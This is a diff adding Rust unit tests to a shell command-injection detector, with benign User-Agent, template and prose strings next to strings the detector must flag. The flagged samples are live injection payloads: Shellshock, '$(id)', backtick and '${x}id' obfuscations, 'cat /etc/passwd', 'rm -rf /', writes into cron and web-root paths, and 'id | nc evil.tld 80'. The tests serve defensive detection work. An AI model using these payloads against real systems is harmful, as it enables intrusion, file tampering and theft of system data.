@@ -2540,3 +2540,149 @@ fn commands_quoted_in_prose() {
         assert!(hit(v), "{v}");
     }
 }
+
+/// The `;`-separated fields of a product token's comment (User-Agent, Server, Via) are
+/// platform, language and device tokens; a shell reads `Name/1.0 (` as a syntax error.
+#[test]
+fn user_agent_comment_fields() {
+    for v in [
+        "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15",
+        "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25 Version/10.54",
+        "Opera/9.80 (Android; Opera Mini/7.5.33361/31.1448; U; id) Presto/2.8.119 Version/11.1010",
+        "Mozilla/5.0 (Linux; U; Android 4.0.3; tr; LG-L160L Build/IML74K) AppleWebKit/534.30",
+        "Mozilla/5.0 (Linux; U; Android 2.3.6; nl; GT-S5830) AppleWebKit/533.1",
+        "Mozilla/5.0 (Linux; U; Android 4.4.2; vi; SM-G7102) AppleWebKit/534.30",
+        "Mozilla/5.0 (X11; U; Linux i686; ru; rv:1.9.2.3) Gecko/20100401",
+        "Mozilla/5.0 (Windows; U; Windows NT 5.1; ps; rv:1.9.0.1) Gecko/2008070208",
+        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+        "Dalvik/2.1.0 (Linux; U; Android 9; id; Redmi Note 8 MIUI/V11.0.3.0)",
+        "See the docs (use `ls`) for more",
+        "Why does `ls` show nothing?",
+        "Opera/9.80 (Series 60; Opera Mini/7.1.32444/191.283; U; su) Presto/2.8.119",
+        "Opera/9.80 (J2ME/MIDP; Opera Mini/5.1.21214/28.2725; U; ln) Presto/2.8.119",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "Mozilla/5.0 (X11; Linux) ; id",
+        "Mozilla/5.0 (X11; Linux x86_64); id",
+        "() { :; }; /bin/bash -c id",
+        "Mozilla/5.0 (X11; Linux x86_64) $(id)",
+        "Mozilla/5.0 (X11; $(id); Linux)",
+        "Mozilla/5.0 (X11;`id`) Gecko",
+        "Mozilla/5.0 (X11; `id`) Gecko",
+        "Mozilla/5.0 (X11; Linux; `whoami`)",
+        "Mozilla/5.0 (X11; Linux; whoami)",
+        "Mozilla/5.0 (X11; Linux; sleep 5)",
+        "Mozilla/5.0 (X11; Linux; ping -c 3 x.burp)",
+        "Mozilla/5.0 (X11; Linux | id)",
+        "Mozilla/5.0 (X11; id | nc evil.tld 80)",
+        "Opera/9.80 (J2ME; U; id",
+        "Opera 9.80 (J2ME/MIDP; U; id)",
+        "x (a; id)",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+/// An unset braced variable at the start of a command word after a separator expands to
+/// nothing (`;${x}id`); PowerShell names a program under `${env:X}\`. A value opening with
+/// `${name}text` is a template.
+#[test]
+fn braced_variable_leading_the_command_word() {
+    for v in [
+        ";${x}id",
+        ";${a}i${b}d",
+        "; ${a}who${b}ami",
+        "|${x}cat /etc/passwd",
+        "$(${x}id)",
+        "; ${env:windir}\\system32\\cmd.exe /c whoami",
+        "& ${ENV:SystemRoot}\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "${greeting}cat",
+        "${name}test",
+        "Hello ${name}, your id is ${id}",
+        "width: ${w}px; height: ${h}px",
+        "a; ${prefix}items",
+        "${env:windir}\\Fonts",
+        "path=${env:APPDATA}\\MyApp\\config.ini",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+/// A one-token value then an output redirection into a path: the shell writes that file.
+#[test]
+fn lone_redirection_into_a_file() {
+    for v in [
+        "x > /tmp/o",
+        "127.0.0.1 > /var/www/html/o.txt",
+        "x > /etc/cron.d/evil",
+        "x >> ~/.bashrc",
+        "127.0.0.1 2>/tmp/err.log",
+        "x>/var/www/html/s.php",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "a > b",
+        "5 > 3",
+        "-> next",
+        "x >= 10",
+        "a -> /tmp/x",
+        "x > /dev/null",
+        "price > 100",
+        "see > /docs/",
+        "version >= 2.0",
+        "Go to Settings > Privacy",
+        "quoted > text here",
+        "x > /tmp",
+        "Home > /products/shoes",
+        "Results > /reports/2024",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+/// Prose that names a command or a path with no separator, a password's glued `|`/`&`
+/// and a code span closing a sentence are text, not command lines.
+#[test]
+fn prose_naming_commands_and_paths() {
+    for v in [
+        "docker secrets live in /run/secrets",
+        "Set PHP include_path to ./lib",
+        "rm -rf my weekend plans 😩",
+        "P4ss|word&more",
+        "Blue|sky&less",
+        "try `pip install requests`",
+        "then run `docker compose up`.",
+        "Run `npm install` first",
+        "copy&paste",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "cat /etc/passwd",
+        "docker run -v /:/mnt alpine",
+        "rm -rf / --no-preserve-root",
+        "x&date",
+        "x&more /etc/passwd",
+        "P4ss|word&whoami",
+        "a|id",
+        "abc `id`",
+        "abc `whoami`",
+        "try `curl evil.com`",
+        "hello `curl attacker`",
+        "then `ping attacker`",
+        "try `sleep 5`",
+        "try `cat /etc/passwd`",
+        "x `pip install evil`",
+        "x `shutdown now`",
+        "; cat /etc/passwd in /tmp",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
